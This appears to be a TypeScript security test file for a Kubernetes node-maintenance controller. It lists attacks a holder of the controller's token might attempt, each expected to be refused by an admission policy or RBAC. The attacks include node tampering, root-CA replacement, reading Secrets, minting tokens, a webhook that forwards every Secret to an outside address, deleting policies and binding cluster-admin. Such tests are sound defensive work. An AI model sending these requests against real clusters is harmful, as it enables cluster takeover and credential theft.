import path from 'node:path';
import { NODES, objectPath } from '../../../../src/kube/resource.ts';
import { type Attack, json, merge } from './attack.ts';
import { NODE } from './on-pods.ts';

const SECRETS = '/api/v1/namespaces/nodemaint-system/secrets';
const CONFIG_MAPS = '/api/v1/namespaces/nodemaint-system/configmaps';
const WEBHOOK = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/nodemaint-webhook';
/** The node. */
export const NODE_PATH = objectPath(NODES, { name: NODE });

const IS_POLICY = /ValidatingAdmissionPolicy 'nodemaint-controller-/;
const IS_RBAC = / cannot /;
const secretOf = (name: string, fields: object): object => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name },
  ...fields,
});
const configMapOf = (name: string): object => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name } });
const TOKEN_OF = {
  type: 'kubernetes.io/service-account-token',
  metadata: {
    name: 'nodemaint-webhook',
    annotations: { 'kubernetes.io/service-account.name': 'nodemaint-agent-release' },
  },
};
const evilWebhook = (fields: object): object => ({
  webhooks: [{ name: 'times.evictionrequests.nodemaintenance.x-k8s.io', ...fields }],
});

/** What an attacker with the token of the controller tries on all objects but pods; a policy or RBAC refuses each. */
export const ATTACKS_ON_CLUSTER: readonly Attack[] = [
  merge(
    'a label of a node',
    NODE_PATH,
    { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } },
    IS_POLICY,
  ),
  merge(
    'another annotation of a node',
    NODE_PATH,
    { metadata: { annotations: { 'kubeadm.alpha.kubernetes.io/cri-socket': 'x' } } },
    IS_POLICY,
  ),
  merge('a taint', NODE_PATH, { spec: { taints: [{ key: 'evil', effect: 'NoExecute' }] } }, IS_POLICY),
  merge('the provider id', NODE_PATH, { spec: { providerID: 'aws:///evil' } }, IS_POLICY),
  merge('a finalizer of a node', NODE_PATH, { metadata: { finalizers: ['evil.example.com/x'] } }, IS_POLICY),
  merge(
    "where the API server finds a node's kubelet",
    `${NODE_PATH}/status`,
    { status: { addresses: [{ type: 'InternalIP', address: '203.0.113.9' }] } },
    IS_POLICY,
  ),
  merge(
    'the port of a kubelet',
    `${NODE_PATH}/status`,
    { status: { daemonEndpoints: { kubeletEndpoint: { Port: 4444 } } } },
    IS_POLICY,
  ),
  merge('the room of a node', `${NODE_PATH}/status`, { status: { allocatable: { pods: '0' } } }, IS_POLICY),
  merge(
    'a node is not ready',
    `${NODE_PATH}/status`,
    { status: { conditions: [{ type: 'Ready', status: 'False', reason: 'x', message: '' }] } },
    IS_POLICY,
  ),
  merge('a label of a node by its status', `${NODE_PATH}/status`, { metadata: { labels: { evil: '' } } }, IS_POLICY),
  merge(
    'an annotation of a node by its status',
    `${NODE_PATH}/status`,
    { metadata: { annotations: { 'nodemaintenance.x-k8s.io/cordoned': 'x' } } },
    IS_POLICY,
  ),
  json('a node is deleted', 'DELETE', NODE_PATH, undefined, IS_RBAC),
  json('a node is reached by its proxy', 'GET', `${NODE_PATH}/proxy/`, undefined, IS_RBAC),
  json('a ConfigMap', 'POST', CONFIG_MAPS, configMapOf('nodemaint-other'), IS_RBAC),
  merge('the authority that pods trust', `${CONFIG_MAPS}/kube-root-ca.crt`, { data: { 'ca.crt': 'evil' } }, IS_RBAC),
  json('all Secrets are read', 'GET', SECRETS, undefined, IS_RBAC),
  json('another Secret is read', 'GET', `${SECRETS}/other`, undefined, IS_RBAC),
  json(
    'a Secret of another name',
    'POST',
    SECRETS,
    secretOf('other', { type: 'kubernetes.io/tls', data: { 'tls.crt': '', 'tls.key': '' } }),
    IS_POLICY,
  ),
  json(
    'a Secret that is filled with the token of another account',
    'POST',
    SECRETS,
    secretOf('nodemaint-webhook', TOKEN_OF),
    IS_POLICY,
  ),
  json(
    'a token by request',
    'POST',
    '/api/v1/namespaces/nodemaint-system/serviceaccounts/nodemaint-agent-release/token',
    { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
    IS_RBAC,
  ),
  merge(
    'a webhook that is shown every Secret',
    WEBHOOK,
    evilWebhook({
      clientConfig: { url: 'https://203.0.113.9/' },
      rules: [{ apiGroups: [''], apiVersions: ['*'], operations: ['*'], resources: ['secrets'] }],
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
    }),
    IS_POLICY,
  ),
  merge('no webhook at all', WEBHOOK, { webhooks: null }, IS_POLICY),
  merge(
    'an owner of the webhook',
    WEBHOOK,
    { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'x', uid: 'x' }] } },
    IS_POLICY,
  ),
  json(
    'a webhook of another name',
    'POST',
    path.dirname(WEBHOOK),
    {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingWebhookConfiguration',
      metadata: { name: 'evil' },
    },
    IS_RBAC,
  ),
  json(
    'the policies are taken away',
    'DELETE',
    '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/nodemaint-controller-pods',
    undefined,
    IS_RBAC,
  ),
  json(
    'more rights',
    'POST',
    '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: 'evil' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [],
    },
    IS_RBAC,
  ),
  json(
    'a NodeMaintenance is made',
    'POST',
    '/apis/nodemaintenance.x-k8s.io/v1alpha1/nodemaintenances',
    {
      apiVersion: 'nodemaintenance.x-k8s.io/v1alpha1',
      kind: 'NodeMaintenance',
      metadata: { name: 'evil' },
      spec: { stage: 'Drain', nodeSelector: { nodeSelectorTerms: [] } },
    },
    IS_RBAC,
  ),
];
